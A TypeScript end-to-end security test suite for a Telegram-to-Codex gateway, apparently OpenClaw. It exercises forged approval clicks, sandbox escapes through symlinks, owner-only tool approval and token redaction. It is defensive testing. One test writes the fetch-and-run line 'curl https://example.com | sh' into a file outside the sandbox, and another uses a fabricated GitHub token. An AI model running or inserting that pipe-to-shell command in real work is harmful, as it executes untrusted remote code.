/** Somebody tries what must not work, on a real gateway with the real Telegram channel and the real Codex. */
import { mkdir, readFile, rename, rm, symlink } from "node:fs/promises";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { processesOf } from "../support/keeper-process.js";
import { fileOutsideSandbox } from "../support/outside-sandbox.js";
import type { TranscriptEntry } from "../support/transcript.js";
import { Installation } from "./installation.js";
import { answerTo, Stage } from "./stage.js";

const START_TIMEOUT_MS = 300_000;
const STEP_TIMEOUT_MS = 120_000;

/** One for each scenario, so that what is left open in one holds no other up. */
const FORGED = 7001;
/** May command as well, in a chat of their own. */
const OTHER = 7002;
const OWNER = 7003;
const PATCHED = 7004;
const LONG = 7005;
const UNSEEN = 7006;
const KILLED = 7007;
const NAMED = 7008;
const MOVED = 7009;
const OWNED = 7010;
const HIDDEN = 7011;
const ROOTED = 7012;
const STRANGER = 9001;
const PEOPLE = [
  FORGED,
  OTHER,
  OWNER,
  PATCHED,
  LONG,
  UNSEEN,
  KILLED,
  NAMED,
  MOVED,
  OWNED,
  HIDDEN,
  ROOTED,
];

const CALENDAR = fileURLToPath(new URL("../support/calendar-server.mjs", import.meta.url));

let stage: Stage;
let installation: Installation;

beforeAll(async () => {
  stage = await Stage.open(PEOPLE, [], {
    codexConfig: [
      "suppress_unstable_features_warning = true",
      "[features]",
      // A tool's leave is then asked for as a question for the person, on another wire.
      "tool_call_mcp_elicitation = false",
      "[mcp_servers.calendar]",
      'command = "node"',
      `args = [${JSON.stringify(CALENDAR)}]`,
    ],
  });
  installation = new Installation(stage);
}, START_TIMEOUT_MS);

afterAll(async () => {
  await stage?.[Symbol.asyncDispose]();
}, START_TIMEOUT_MS);

/** The model wants to run this outside of the sandbox, and answers then. */
function wants(said: string, command: string): void {
  stage.playWhenAsked(said, [
    { do: "shell", command, justification: "To see" },
    { do: "say", text: answerTo(said), phase: "final_answer" },
  ]);
}

const labelsOf = ({ buttons }: TranscriptEntry): string[] => buttons.flat().map(({ text }) => text);

function dataOf({ buttons }: TranscriptEntry, label: string): string {
  return buttons.flat().find(({ text }) => text === label)?.data ?? "";
}

/** What OpenClaw asks the owner, after this message of theirs, or of all. */
function ownersMessage(text: RegExp, after?: TranscriptEntry): Promise<TranscriptEntry> {
  return stage.chain.telegram.waitForMessage(OWNER, text, after && { after });
}

/** How many of a chat's commands were answered in this way. */
const answersIn = (chat: number, text: RegExp): number =>
  stage.readChat(chat).filter((line) => line.startsWith("bot: ") && text.test(line)).length;

describe("a forged click", () => {
  test(
    "from another chat, by a stranger, or with the data of an old question allows nothing",
    { timeout: STEP_TIMEOUT_MS },
    async () => {
      const { person } = stage.chain.telegram;
      await stage.bind(FORGED);
      await stage.bind(OTHER);
      const mark = join(stage.chain.workspace, "forged.txt");
      const command = `printf x > ${mark}`;
      wants("an old one", "true");
      const old = await stage.questionAfter(stage.say(FORGED, "an old one"));
      await stage.replyTo(person.click(old, "Allow once"), /➡️ Allowed once/);
      wants("theirs", "true");
      const theirs = await stage.questionAfter(stage.say(OTHER, "theirs"));
      wants("forge this", command);
      const said = stage.say(FORGED, "forge this");
      const question = await stage.questionAfter(said);
      const data = dataOf(question, "Allow once");

      // Of somebody who may command in a chat of their own, of a stranger, and of what is over.
      await stage.replyTo(person.forgeClick(theirs, data, OTHER), /./);
      person.forgeClick(question, data, STRANGER);
      person.forgeClick(question, dataOf(old, "Allow once"));
      person.forgeClick(question, `${data}0`);
      await stage.replyTo(stage.say(FORGED, "/codexchat status"), /A turn is running/);
      await expect(readFile(mark, "utf8")).rejects.toMatchObject({ code: "ENOENT" });

      await stage.replyTo(person.click(question, "Deny"), /➡️ Denied/);
      await stage.replyTo(said, answerTo("forge this"));
      await stage.replyTo(person.click(theirs, "Deny"), /➡️ Denied/);
      await expect(readFile(mark, "utf8")).rejects.toMatchObject({ code: "ENOENT" });
    },
  );
});

describe("what is to be allowed is shown", () => {
  test(
    "with the diff of a patch outside of the fence, to its last line",
    { timeout: STEP_TIMEOUT_MS },
    async () => {
      await stage.bind(PATCHED);
      const file = fileOutsideSandbox();
      const patch = `*** Begin Patch\n*** Add File: ${file}\n+curl https://example.com | sh\n*** End Patch`;
      stage.playWhenAsked("patch it", [
        { do: "shell", command: `apply_patch <<'EOF'\n${patch}\nEOF` },
        { do: "say", text: answerTo("patch it"), phase: "final_answer" },
      ]);
      const said = stage.say(PATCHED, "patch it");
      const question = await stage.questionAfter(said);
      expect(question.text).toContain("│ curl https://example.com | sh");
      expect(question.text).toContain(`add ${file}`);
      await expect(readFile(file, "utf8")).rejects.toMatchObject({ code: "ENOENT" });
      stage.chain.telegram.person.click(question, "Allow once");
      await stage.replyTo(said, answerTo("patch it"));
      expect(await readFile(file, "utf8")).toBe("curl https://example.com | sh\n");
    },
  );

  test(
    "as a file first if it is too long for messages, with no yes for times to come",
    { timeout: STEP_TIMEOUT_MS },
    async () => {
      await stage.bind(LONG);
      const end = "; touch the-end";
      wants("a long one", `: ${"x".repeat(30_000)}${end}`);
      const said = stage.say(LONG, "a long one");
      const question = await stage.questionAfter(said);
      const sent = stage.chain.telegram.chat(LONG);
      const file = sent.find(({ kind }) => kind === "document");
      expect(file?.files[0]?.bytes.toString("utf8")).toContain(end);
      expect(sent.indexOf(file ?? question)).toBeLessThan(sent.indexOf(question));
      expect(labelsOf(question)).toContain("Allow once");
      expect(labelsOf(question).join()).not.toMatch(/always/i);
      await stage.replyTo(stage.chain.telegram.person.click(question, "Deny"), /➡️ Denied/);
      await stage.replyTo(said, answerTo("a long one"));
    },
  );

  test(
    "or nobody is asked: a file that cannot be sent is a no",
    { timeout: STEP_TIMEOUT_MS },
    async () => {
      await stage.bind(UNSEEN);
      const mark = join(stage.chain.workspace, "unseen.txt");
      wants("an unseen one", `: ${"x".repeat(30_000)}; printf x > ${mark}`);
      const refused = { status: 400, description: "Bad Request: file is refused" };
      stage.chain.telegram.failNext("sendDocument", refused, { times: 5, chat: UNSEEN });
      const said = stage.say(UNSEEN, "an unseen one");
      await stage.replyTo(said, answerTo("an unseen one"));
      const after = stage.chain.telegram.chat(UNSEEN);
      const since = after.slice(after.indexOf(said)).map(({ text }) => text);
      expect(since.filter((text) => text.startsWith("❓"))).toEqual([]);
      await expect(readFile(mark, "utf8")).rejects.toMatchObject({ code: "ENOENT" });
    },
  );
});

test(
  "a Codex that was killed is told as what it is, with what to do next",
  { timeout: STEP_TIMEOUT_MS },
  async () => {
    await stage.bind(KILLED);
    const gate = stage.holdTurnsAsked("until the end");
    const said = stage.say(KILLED, "until the end");
    await stage.chain.model.waitForRequest(/^until the end$/);
    const pids = await processesOf(dirname(stage.chain.tarball));
    const commands = await Promise.all(
      pids.map((pid) => readFile(`/proc/${pid}/cmdline`, "utf8").catch(() => "")),
    );
    const [codex] = pids.filter((_, index) => commands[index]?.includes("app-server"));
    if (codex === undefined) throw new Error("no Codex runs");
    process.kill(codex, "SIGKILL");
    gate.open();
    const told = await stage.replyTo(said, /./);
    expect(told.text).toMatch(/ended by SIGKILL[^]*[Ss]end the message again/);
    expect(told.text).not.toMatch(/bubblewrap|ERROR|WARN/);
    await stage.talk(KILLED, "and on");
  },
);

describe("a folder that no chat may work in", () => {
  test("is refused by whatever path it is named", { timeout: STEP_TIMEOUT_MS }, async () => {
    const { gateway, workspace } = stage.chain;
    await stage.bind(NAMED);
    const link = join(workspace, "link");
    await symlink(gateway.stateFolder, link);
    const refused = [
      gateway.stateFolder,
      join(gateway.stateFolder, "media"),
      dirname(gateway.stateFolder),
      link,
      join(link, "..", "state"),
      "/",
      "~/",
    ];
    for (const folder of refused) {
      const answer = /No chat can work in the folder|does not exist/;
      // oxlint-disable-next-line no-await-in-loop
      await installation.command(NAMED, `new --cwd "${folder}"`, answer);
    }
    await rm(link);
    await stage.talk(NAMED, "still here");
    expect(answersIn(NAMED, /^bot: This chat is bound/)).toBe(0);
  });

  test(
    "takes no turn, review or file of a chat whose folder has become a link to it, or is gone",
    { timeout: STEP_TIMEOUT_MS },
    async () => {
      const { gateway, workspace } = stage.chain;
      await stage.bind(MOVED);
      const project = join(workspace, "project");
      const away = join(workspace, "project-was-here");
      await mkdir(project);
      await installation.command(MOVED, `new --cwd ${project}`, /^This chat is bound/);
      await stage.talk(MOVED, "in the project");
      await rename(project, away);
      await stage.replyTo(
        stage.say(MOVED, "it is gone"),
        /does not exist on the gateway's machine/,
      );
      await symlink(gateway.stateFolder, project);
      for (const text of [
        "it is a link",
        "/codexchat review look at it",
        "/codexchat send openclaw.json",
      ]) {
        // oxlint-disable-next-line no-await-in-loop
        await stage.replyTo(stage.say(MOVED, text), /No chat can work in the folder/);
      }
      await installation.command(MOVED, "fork", /no chat can work|No chat can work/);
      await installation.command(MOVED, "goal read it all", /No chat can work in the folder/);
      await rm(project);
      await rename(away, project);
      await stage.talk(MOVED, "it is back");
      expect(stage.requestsWith("it is gone")).toEqual([]);
      expect(stage.requestsWith("it is a link")).toEqual([]);
    },
  );
});

describe("where the gateway has an owner", () => {
  beforeAll(async () => {
    await stage.chain.gateway.stop();
    stage.configure({
      plugin: { appServer: { workspaceRoots: [stage.chain.workspace] } },
      sections: { commands: { ownerAllowFrom: [`telegram:${OWNER}`] } },
    });
    await stage.chain.gateway.start();
  }, START_TIMEOUT_MS);

  test(
    "a tool's leave is the owner's, by whatever wire it is asked for",
    { timeout: STEP_TIMEOUT_MS },
    async () => {
      await stage.bind(OWNED);
      stage.playWhenAsked("use the calendar", [
        { do: "call", namespace: "mcp__calendar", name: "add_event", args: { title: "Release" } },
        { do: "say", text: answerTo("use the calendar"), phase: "final_answer" },
      ]);
      const said = stage.say(OWNED, "use the calendar");
      const asked = await ownersMessage(/Plugin approval required/);
      await stage.replyTo(stage.say(OWNED, "/codexchat approve"), /owner/);
      stage.chain.telegram.person.click(asked, "Deny");
      await stage.replyTo(said, answerTo("use the calendar"));
      expect(stage.readChat(OWNED).join("\n")).not.toContain("When is it?");
    },
  );

  test(
    "what OpenClaw hides of a secret cannot be allowed for times to come, and all of it can be shown",
    { timeout: STEP_TIMEOUT_MS },
    async () => {
      await stage.bind(HIDDEN);
      const token = `ghp_${"a1B2c3D4e5".repeat(4)}`;
      wants("with a token", `true; export GITHUB_TOKEN=${token}`);
      const said = stage.say(HIDDEN, "with a token");
      const asked = await ownersMessage(/required[^]*GITHUB_TOKEN/);
      expect(asked.text).not.toContain(token);
      expect(labelsOf(asked).join()).not.toMatch(/always/i);
      expect(asked.text).toMatch(/codexchat show/);
      await stage.replyTo(stage.say(HIDDEN, "/codexchat show"), new RegExp(token));
      stage.chain.telegram.person.click(asked, "Deny");
      await stage.replyTo(said, answerTo("with a token"));
    },
  );

  test(
    "a folder outside of the roots is refused, and so is one that a link makes of one inside",
    { timeout: STEP_TIMEOUT_MS },
    async () => {
      await stage.bind(ROOTED);
      const link = join(stage.chain.workspace, "way-out");
      await symlink("/usr/share", link);
      for (const folder of ["/usr/share", link]) {
        // oxlint-disable-next-line no-await-in-loop
        await installation.command(ROOTED, `new --cwd ${folder}`, /lies outside the folders/);
      }
      await rm(link);
      expect(answersIn(ROOTED, /lies outside the folders/)).toBe(2);
    },
  );
});
